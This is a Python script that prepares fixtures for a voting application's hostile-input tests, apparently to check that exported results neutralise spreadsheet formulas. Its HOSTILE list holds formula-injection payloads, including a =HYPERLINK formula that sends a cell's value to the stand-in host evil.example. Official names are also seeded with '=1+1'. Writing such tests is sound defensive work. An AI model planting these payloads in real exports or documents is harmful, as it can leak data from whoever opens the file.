"""``python -m tests.prepare_hostile PASSWORD``: migrate the configured database
(DATABASE_URL) and prepare what tests/test_hostile_more_gunicorn.py attacks: the
secretariat's account ``thuky``, a counted vote whose officials have formula names, a
vote in draft (for imports) and an open vote with one encrypted ballot per card.
Prints {"tallied", "draft", "open", "ballots", "trackers"} as JSON."""

from __future__ import annotations

import json
import sys

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "@SUM(A1:A9)", "-2+3"]


def main() -> None:
    """Prepare and print."""
    from ballot import create_app
    from ballot.accounts.operations import create_user
    from ballot.counting import operations as counting
    from ballot.db import db
    from ballot.migrate import upgrade_database
    from ballot.polls import operations as polls
    from ballot.polls.models import Poll
    from ballot.polls.quick import quick_vote
    from ballot.voting.casting import cast
    from tally.count import decrypt_with_share, parse_totals
    from tests.voting_helpers import PASSPHRASES, OpenVote, ballot_body, draft_poll

    app = create_app()
    upgrade_database(app)
    out: dict[str, object] = {}
    with app.app_context():
        create_user("thuky", sys.argv[1], "secretariat")

        def vote(names: list[str], members: int) -> OpenVote:
            made = quick_vote(
                "thuky",
                meeting="Kỳ họp",
                title="Lấy phiếu",
                kind="rating",
                officials=[(name, "=1+1") for name in names],
                members=members,
                trustee_names=["A", "B", "C"],
                threshold=2,
                passphrases=PASSPHRASES,
            )
            return OpenVote(
                made.poll.id, made.poll.public_id, [c.code for c in made.printed], made.shares
            )

        counted = vote(HOSTILE, 2)
        cast(counted.poll_id, ballot_body(counted, 0, [1] * len(HOSTILE)))
        poll = db.session.get(Poll, counted.poll_id)
        assert poll is not None
        polls.close_poll("thuky", poll)
        counting.start_count("thuky", poll)
        db.session.commit()
        manifest = counting.manifest_of(poll)
        totals, _ = parse_totals(json.loads(counting.get_count(poll).tally), manifest)
        for trustee in (1, 2):
            part = decrypt_with_share(
                manifest, totals, counted.shares[trustee - 1][1], PASSPHRASES[trustee - 1]
            )
            body = {"election_id": counted.public_id, "manifest": manifest.hash.hex()}
            counting.submit_partial("thuky", poll, body | part.to_json())
            db.session.commit()
        out["tallied"] = counted.public_id
        draft = draft_poll()
        db.session.commit()
        out["draft"] = draft.public_id
        opened = vote(["Người 1", "Người 2"], 6)
        out["open"] = opened.public_id
        out["ballots"] = [
            ballot_body(opened, i, [1 + i % 3, 2]).decode() for i in range(len(opened.codes))
        ]
    json.dump(out, sys.stdout)


if __name__ == "__main__":
    main()
